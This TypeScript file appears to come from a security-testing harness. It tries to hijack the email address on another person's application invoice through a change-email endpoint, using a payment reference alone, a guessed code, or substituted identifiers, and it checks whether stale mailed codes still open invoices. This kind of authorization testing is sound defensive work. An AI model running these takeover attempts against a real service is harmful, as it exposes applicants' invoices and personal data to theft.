import type { Finding } from '../attack.ts';
import { newPayer, pay, type Payer } from '../target/applicants.ts';
import type { Browser } from '../target/browser.ts';
import { mailsTo, nextMail } from '../target/mailbox.ts';
import type { Target } from '../target/target.ts';

const JUPEB = '5';
const CODE_OF = /Code:?\s*(?:<[^>]*>\s*)*(\d{6})/;

const change = (browser: Browser, rrr: string, email: string, answer: object = {}) =>
  browser.call('POST', '/api/ApplicationInvoice/change-email', { body: { rrr, email, ...answer } });

/** The code that its owner is mailed, and the challenge that it answers. */
async function codeOf(browser: Browser, { phone, email }: Payer): Promise<{ challenge: string; code: string }> {
  const seen = (await mailsTo(browser, email)).length;
  const { data, text } = await browser.call('POST', '/api/ApplicationInvoice/send-invoice-code', {
    body: { applicationTypeId: JUPEB, regNumber: phone, mobileNumber: phone },
  });
  if (!data?.challenge) throw new Error(`No challenge: ${text}`);
  return { challenge: data.challenge, code: await nextMail(browser, email, seen, CODE_OF) };
}

/** Whoever turns the mails of an invoice to themselves has all that is mailed about it. An RRR is on paper, and proves nobody. */
export async function othersAddresses(target: Target): Promise<Finding[]> {
  const [owner, thief] = [await newPayer(target), await newPayer(target)];
  await pay(owner);
  const own = await codeOf(thief.browser, thief);
  const attempts = [
    ['an RRR alone', await change(thief.browser, owner.rrr, thief.email)],
    ["a code for the thief's own invoice", await change(thief.browser, owner.rrr, thief.email, own)],
    [
      'a guessed code',
      await change(thief.browser, owner.rrr, thief.email, { challenge: own.challenge, code: target.random.digits(6) }),
    ],
    ['the phone number in place of the RRR', await change(thief.browser, owner.phone, thief.email)],
    ['the invoice number in place of the RRR', await change(thief.browser, owner.invoice.invoiceNumber, thief.email)],
  ] as const;
  const changed = attempts
    .filter(([, { data }]) => data && 'email' in data)
    .map(([by]) => ({
      what: `The address of another's invoice is changed by ${by}`,
      reproduce: 'POST /api/ApplicationInvoice/change-email from another device',
    }));
  return [...changed, ...(await codesOfBefore(target, owner))];
}

/** Who reads the mailbox of before may have a code in hand as the owner changes the address. */
async function codesOfBefore(target: Target, owner: Payer): Promise<Finding[]> {
  const reader = target.stranger();
  const early = await codeOf(reader, owner);
  const { status, text } = await change(owner.browser, owner.rrr, `new${owner.email}`);
  if (status !== 200) throw new Error(`The owner cannot change the address: ${text}`);
  const opened = await reader.call('POST', '/api/ApplicationInvoice/open-invoice', { body: early });
  return opened.status === 200
    ? [
        {
          what: 'A code that was mailed to the address of before opens the invoice after the change',
          reproduce:
            'ask for a code, have the owner change the address, then POST /api/ApplicationInvoice/open-invoice',
        },
      ]
    : [];
}
